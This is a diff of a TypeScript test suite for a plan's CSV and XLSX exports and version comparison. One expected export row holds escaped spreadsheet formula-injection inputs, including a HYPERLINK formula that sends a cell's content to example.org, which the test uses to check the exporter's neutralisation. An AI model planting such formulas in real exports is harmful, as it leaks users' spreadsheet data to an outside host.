@@ -246,6 +246,9 @@ describe("a promoted card's text in the fiche", () => {
 });
 
 describe("exports and versions of the plan", () => {
+  /** A CSV line's cells up to the years' (the fiche's other fields follow them), for a test without `;` in a cell. */
+  const upToTheYears = (line = "") => line.split(";").slice(0, 13).join(";");
+
   async function filledPlan() {
     const context = await workshop();
     const { space, board, plan } = context;
@@ -317,7 +320,8 @@ describe("exports and versions of the plan", () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(await xlsx.arrayBuffer());
     const followUp = workbook.getWorksheet("Suivi");
-    expect(followUp?.getRow(1).values).toEqual([
+    // The fiche's other fields follow the years: fiche-fields-export.test.ts reads them.
+    expect(((followUp?.getRow(1).values ?? []) as unknown[]).slice(0, 14)).toEqual([
       undefined,
       "Axe",
       "Fiche action",
@@ -333,7 +337,7 @@ describe("exports and versions of the plan", () => {
       "2024",
       "2025",
     ]);
-    expect(followUp?.getRow(2).values).toEqual([
+    expect(((followUp?.getRow(2).values ?? []) as unknown[]).slice(0, 12)).toEqual([
       undefined,
       "Soutenir les familles",
       "Relais petite enfance",
@@ -358,8 +362,10 @@ describe("exports and versions of the plan", () => {
       .replace(/^\uFEFF/, "")
       .trim()
       .split("\n");
-    expect(lines[0]).toBe("Axe;Fiche action;Statut;Pilote;Indicateur;Type;Unité;Cible;2021;2022;2023;2024;2025");
-    expect(lines[1]).toBe(
+    expect(upToTheYears(lines[0])).toBe(
+      "Axe;Fiche action;Statut;Pilote;Indicateur;Type;Unité;Cible;2021;2022;2023;2024;2025",
+    );
+    expect(upToTheYears(lines[1])).toBe(
       "Soutenir les familles;Relais petite enfance;Validée en COPIL;Commune de Prades;Places créées;Réalisation;places;12;;4;9;;",
     );
     const habitant = await server.join(space, "habitant", "Lou");
@@ -383,7 +389,7 @@ describe("exports and versions of the plan", () => {
         .replace(/^\uFEFF/, "")
         .trim()
         .split("\n")[1] ?? "";
-    expect(row).toBe(
+    expect(upToTheYears(row)).toBe(
       `Soutenir les familles;"'=HYPERLINK(""http://example.org/?""&A2,""Cliquez"")";Validée en COPIL;'@SUM(1+1);'+33 places;Réalisation;'-places;-3;;4;9;;`,
     );
     const xlsx = await server.request("GET", `/api/spaces/${space.id}/plan/export/xlsx`, {
@@ -423,7 +429,7 @@ describe("exports and versions of the plan", () => {
       })
     ).json()) as { changed: { fields: { field: string; before: string; after: string }[] }[] };
     expect(comparison.changed[0]?.fields).toEqual([
-      { field: "Description", before: "Un relais itinérant", after: "Un relais itinérant\nOuvert le mercredi" },
+      { field: "description", before: "Un relais itinérant", after: "Un relais itinérant\nOuvert le mercredi" },
     ]);
   });
 
@@ -452,7 +458,7 @@ describe("exports and versions of the plan", () => {
         {
           ficheId,
           title: "Relais petite enfance",
-          fields: [{ field: "Pilote", before: "Commune de Prades", after: "CdC Conflent-Canigou" }],
+          fields: [{ field: "pilot", before: "Commune de Prades", after: "CdC Conflent-Canigou" }],
         },
       ],
     });
